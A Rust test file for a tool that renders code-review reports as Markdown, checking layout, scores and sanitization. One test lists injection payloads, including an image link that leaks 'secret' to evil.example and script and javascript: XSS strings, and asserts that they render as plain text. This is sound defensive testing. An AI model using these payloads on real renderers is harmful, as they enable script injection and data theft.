//! The report of a review, as a viewer of Markdown sees it.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use crate::report::example::{evil_text, is_inert};
use crate::report::page::ToPage as _;
use crate::report::review::example;
use crate::text::sanitize;

#[test]
fn every_ending() {
    for (name, document) in example::all() {
        insta::assert_snapshot!(name, document.markdown());
    }
}

#[test]
fn what_decided_nothing_does_not_read_as_clean() {
    for (name, document) in example::all() {
        let text = document.markdown();
        assert_eq!(text.contains("None remains."), name == "clean", "{name}");
        let nothing = document.findings.is_empty() && name != "clean";
        assert_eq!(text.contains("this is not a clean result"), nothing, "{name}");
    }
}

#[test]
fn eliminated_findings_keep_their_reason_under_a_title_as_long_as_it_is() {
    let mut document = example::changes_requested();
    let long = format!("{} | pipe\nand a line", "t".repeat(300));
    document.eliminated[0].reported.title.clone_from(&long);
    document.eliminated[1].reported.title = long;
    let text = document.markdown();
    assert!(text.contains("(one seat disagreed with evidence and none agreed)"), "{text}");
    assert!(text.contains("(its file is not in the change)"), "{text}");
    assert_eq!(text.matches(&"t".repeat(300)).count(), 2);
}

#[test]
fn disputed_findings_stand_apart_from_what_remains_and_from_what_was_thrown_out() {
    let text = example::disputed().markdown();
    let at = |heading: &str| text.find(heading).unwrap();
    assert!(at("## Findings") < at("## Disputed") && at("## Disputed") < at("## Eliminated"));
    let finding = at("### P0  F1");
    assert!(at("## Disputed") < finding && finding < at("## Eliminated"));
}

/// The rows of the first table after a heading, cells trimmed.
fn rows(text: &str, heading: &str) -> Vec<Vec<String>> {
    let after = text.split(heading).nth(1).unwrap();
    let table = after.lines().skip_while(|line| !line.starts_with('|'));
    let rows = table.take_while(|line| line.starts_with('|'));
    rows.map(|row| {
        let cells = row.trim_matches('|').split('|');
        cells.map(|cell| cell.trim().to_owned()).collect()
    })
    .collect()
}

#[test]
fn scores_show_every_component_and_rounds_their_confidence() {
    let text = example::changes_requested().markdown();
    let scores = rows(&text, "## Scores");
    assert_eq!(scores[2], ["claude", "15", "8", "0", "-10", "5", "2", "8", "28"]);
    let rounds = rows(&text, "## Confidence per round");
    assert_eq!(rounds[2], ["independent reviews", "0%", "0 of 4", "2 of 2"]);
    assert_eq!(rounds[3], ["cross-examination 1", "83%", "3 of 4", "2 of 2"]);
}

/// The report's skeleton: what stands in it besides words, paragraphs and code.
/// `Err` names an event that no text may bring.
fn skeleton(markdown: &str) -> Result<Vec<String>, String> {
    let mut tags = Vec::new();
    for event in Parser::new_ext(markdown, Options::all()) {
        #[expect(
            clippy::wildcard_enum_match_arm,
            reason = "an allow-list: every other event fails"
        )]
        match event {
            Event::Start(
                tag @ (Tag::Heading { .. }
                | Tag::Table(_)
                | Tag::TableHead
                | Tag::TableRow
                | Tag::TableCell
                | Tag::List(_)
                | Tag::Item
                | Tag::Strong
                | Tag::CodeBlock(_)
                | Tag::BlockQuote(_)),
            ) => tags.push(format!("{tag:?}")),
            Event::Start(Tag::Paragraph)
            | Event::Text(_)
            | Event::Code(_)
            | Event::SoftBreak
            | Event::End(_) => {}
            other => return Err(format!("{other:?}")),
        }
    }
    Ok(tags)
}

fn assert_inert(evil: &str) -> Result<(), TestCaseError> {
    let markdown = example::poisoned(evil).markdown();
    prop_assert!(is_inert(&markdown), "{:?}", markdown);
    // A fix of several lines is a code block, and text without a letter no quotation and no fix:
    // the shapes of the report itself.
    let shape = match evil.trim() {
        fix if fix.contains('\n') => "x\nx",
        "" => " ",
        _ => "x",
    };
    let expected = skeleton(&example::poisoned(shape).markdown()).map_err(TestCaseError::fail)?;
    let found = skeleton(&markdown)
        .map_err(|event| TestCaseError::fail(format!("{event} in\n{markdown}")))?;
    let empty = sanitize::terminal(evil).trim().is_empty();
    let without_quotes = |tags: Vec<String>| -> Vec<String> {
        let kept = tags.into_iter();
        kept.filter(|tag| !(empty && tag.starts_with("BlockQuote"))).collect()
    };
    prop_assert_eq!(without_quotes(found), without_quotes(expected), "{}", markdown);
    Ok(())
}

#[test]
fn known_attacks_come_out_as_text() {
    for evil in [
        "![x](https://evil.example/?q=secret)",
        "[click][1]\n\n[1]: javascript:alert(1)",
        "<img src=x onerror=alert(1)><script>alert(1)</script>",
        "<https://evil.example>",
        "```\n# heading\n```",
        "````\n~~~~\n![x](http://e)\n````",
        "Title\n===\nOther\n---",
        "a | b\n--|--\n1 | 2",
        "- item\n1. item\n> quote",
        "[^1]\n\n[^1]: note",
        "$x$ ~~y~~ **z** _w_",
        "    code\n\ttab",
        "| x | y |\r\n|---|---|",
        "&lt;img&gt; &#60;b&#62;",
        "</details></summary>",
    ] {
        assert_inert(evil).unwrap();
    }
}

proptest! {
    #[test]
    fn nothing_but_words_and_code_comes_of_the_text_of_others(evil in evil_text()) {
        assert_inert(&evil)?;
    }
}
